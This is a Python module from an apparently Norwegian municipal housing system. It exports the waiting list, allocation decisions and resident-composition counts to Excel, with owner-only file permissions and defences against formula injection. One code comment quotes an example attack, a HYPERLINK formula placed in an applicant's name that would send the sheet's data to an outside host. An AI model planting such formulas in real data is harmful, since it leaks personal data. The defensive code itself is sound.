"""Exporting tables to Excel (.xlsx): the queue, the decisions, the resident composition.

The headers are bokmål names that the importer also reads (see services/importing), so
an exported queue can be corrected in Excel and imported back as applicants. Vocabulary
values are written as their bokmål labels, which the importer accepts too.

The files hold special-category personal data: they are created readable by their owner
only, and the workbook is marked «Unntatt offentlighet» in its document properties.
pandas and openpyxl are imported inside the functions (DESIGN.md: start ≤ 1 s).
"""
from __future__ import annotations

import os
import tempfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

from ..domain import MeetingStatus, NeedCategory, months_before, saved_id
from ..store import Database
from ..store.decision_history import decision_history
from ..store.households import HouseholdRepository
from .workspace import Workspace

EXEMPT_MARKING = "Unntatt offentlighet, jf. offl. § 13 jf. fvl. § 13"
INCIDENT_MONTHS = 12


def _labels(values: Iterable[Any]) -> str:
    return ", ".join(sorted(v.label for v in values))


def _yes_no(value: bool) -> str:
    return "ja" if value else "nei"


def _queue_rows(database: Database, today: date) -> list[dict[str, Any]]:
    return [{
        "plass": position,
        "saksnummer": a.case_no,
        "navn": a.name,
        "husstandstype": a.household_type.label,
        "voksne": a.adults,
        "barn_alder": ", ".join(str(age) for age in a.children_ages),
        "soverom_behov": a.bedrooms_needed,
        "rullestol": _yes_no(a.wheelchair_needed),
        "behov": _labels(a.needs),
        "prioritet": a.priority.label,
        "vedtaksdato": a.decision_date,
        "ventetid_dager": a.waiting_days(today),
        "oppfolging": _labels(a.follow_up),
        "unnga": ", ".join(sorted(a.avoid_places)),
        "skolekrets": a.school_district,
    } for position, a in enumerate(HouseholdRepository(database).queue(), start=1)]


def _composition_rows(database: Database, today: date) -> list[dict[str, Any]]:
    """One row per stairwell: counts only, never a name or a diagnosis of a tenant."""
    workspace = Workspace.load(database, today)
    since = months_before(today, INCIDENT_MONTHS)
    rows = []
    for stairwell in sorted(workspace.stairwells.values(), key=lambda s: (s.building_id, s.label)):
        building = workspace.buildings[stairwell.building_id]
        composition = workspace.compositions.stairwell(saved_id(stairwell.id))
        rows.append({
            "bygning_id": building.id,
            "adresse": building.address,
            "bydel": building.district,
            "oppgang": stairwell.label,
            "kommunale_boliger": composition.municipal_units,
            "ledige": composition.vacant_units,
            "husstander": composition.households,
            "personer": composition.persons,
            "barn": composition.children,
            "husstander_med_barn": composition.households_with_children,
            "tunge_behov": composition.heavy_need_households,
            **{need.label: composition.count(need) for need in NeedCategory},
            f"hendelser_{INCIDENT_MONTHS}_mnd": composition.incidents_since(since),
        })
    return rows


def _decision_rows(database: Database, today: date) -> list[dict[str, Any]]:
    """Every decision with its reasons and how each flag was weighed (the gap Vefsn's audit found)."""
    return [{
        "møtedato": meeting.held_on,
        "møte": meeting.title,
        "signert": _yes_no(meeting.status is MeetingStatus.SIGNED),
        "saksnummer": decision.case_no,
        "utfall": decision.outcome.label,
        "bolig_id": decision.unit_id or "",
        "adresse": address,
        "oppgang": stairwell,
        "innflyttingsfrist": decision.move_in_deadline,
        "kontrakt": decision.lease_type.label if decision.lease_type else "",
        "varighet_år": decision.lease_years,
        "vilkår": decision.conditions,
        "begrunnelse": decision.reasons,
        "kriterier": decision.criteria,
        "alternativer": decision.alternatives,
        "dissens": decision.dissent,
        "risikovarsler": "; ".join(f"{flag.rule} ({flag.severity.label}): {flag.weighing or 'ikke kommentert'}"
                                   for flag in decision.flags),
        "regelversjon": decision.settings_version,
    } for meeting, decision, address, stairwell in decision_history(database)]


@dataclass(frozen=True)
class Export:
    sheet: str
    rows: Callable[[Database, date], list[dict[str, Any]]]
    columns: tuple[str, ...]  # also the header of an export without rows


EXPORTS: dict[str, Export] = {
    "queue": Export("Venteliste", _queue_rows, (
        "plass", "saksnummer", "navn", "husstandstype", "voksne", "barn_alder", "soverom_behov", "rullestol",
        "behov", "prioritet", "vedtaksdato", "ventetid_dager", "oppfolging", "unnga", "skolekrets")),
    "decisions": Export("Vedtak", _decision_rows, (
        "møtedato", "møte", "signert", "saksnummer", "utfall", "bolig_id", "adresse", "oppgang",
        "innflyttingsfrist", "kontrakt", "varighet_år", "vilkår", "begrunnelse", "kriterier", "alternativer",
        "dissens", "risikovarsler", "regelversjon")),
    "composition": Export("Beboersammensetning", _composition_rows, (
        "bygning_id", "adresse", "bydel", "oppgang", "kommunale_boliger", "ledige", "husstander", "personer",
        "barn", "husstander_med_barn", "tunge_behov", *(need.label for need in NeedCategory),
        f"hendelser_{INCIDENT_MONTHS}_mnd")),
}


def export_table(database: Database, what: str, out: Path, today: date | None = None) -> int:
    """Write one table to an .xlsx file (replacing it); returns the number of rows."""
    if what not in EXPORTS:
        raise ValueError(f"ukjent eksport «{what}»; velg {', '.join(EXPORTS)}")
    export = EXPORTS[what]
    rows = export.rows(database, today or date.today())
    write_xlsx(rows, export.columns, Path(out), export.sheet)
    return len(rows)


# A text that a spreadsheet would take for a formula (OWASP, «CSV Injection»): it begins with
# = + - @, a tab or a carriage return, possibly after spaces. «=HYPERLINK("http://x/?"&A1,…)»
# as an applicant's name would otherwise send the sheet's data away when a case worker clicks.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # also full-width


def _looks_like_formula(text: str) -> bool:
    return text.lstrip(" ").startswith(_FORMULA_START)


def printable_cell(value: object) -> object:
    """Text openpyxl can store: a control character (a NUL in a name) made every export fail."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    return value


def cells_as_text(worksheet: Any) -> None:
    """Every text cell that could be read as a formula is written as text, with Excel's quote prefix
    (the apostrophe a person types before «=»): shown as written, never evaluated, not even after
    editing the cell. The text itself is unchanged, so an exported queue imports back as it was."""
    for row in worksheet.iter_rows(min_row=2):
        for cell in row:
            value = cell.value
            if isinstance(value, str) and _looks_like_formula(value):
                cell.data_type = "s"
                cell.quotePrefix = True


def write_xlsx(rows: list[dict[str, Any]], columns: tuple[str, ...], out: Path, sheet: str) -> None:
    import pandas as pd

    rows = [{key: printable_cell(value) for key, value in row.items()} for row in rows]
    frame = pd.DataFrame.from_records(rows, columns=list(columns))
    # Written beside the target, owner-only from the start (mkstemp), then moved into place.
    handle, temporary = tempfile.mkstemp(suffix=".xlsx", dir=out.parent)
    os.close(handle)
    try:
        with pd.ExcelWriter(temporary, engine="openpyxl") as writer:
            frame.to_excel(writer, sheet_name=sheet, index=False)
            worksheet = writer.sheets[sheet]
            worksheet.freeze_panes = "A2"
            cells_as_text(worksheet)
            for position, name in enumerate(frame.columns):
                longest = max([len(str(name)), *(len(str(v)) for v in frame[name].head(500))], default=8)
                worksheet.column_dimensions[worksheet.cell(1, position + 1).column_letter].width = min(60, longest + 2)
                if frame[name].map(lambda v: isinstance(v, date)).any():
                    for cell in worksheet.iter_rows(min_row=2, min_col=position + 1, max_col=position + 1):
                        cell[0].number_format = "DD.MM.YYYY"
            writer.book.properties.title = sheet
            writer.book.properties.subject = EXEMPT_MARKING
            writer.book.properties.keywords = EXEMPT_MARKING
        os.replace(temporary, out)
    except BaseException:
        Path(temporary).unlink(missing_ok=True)
        raise
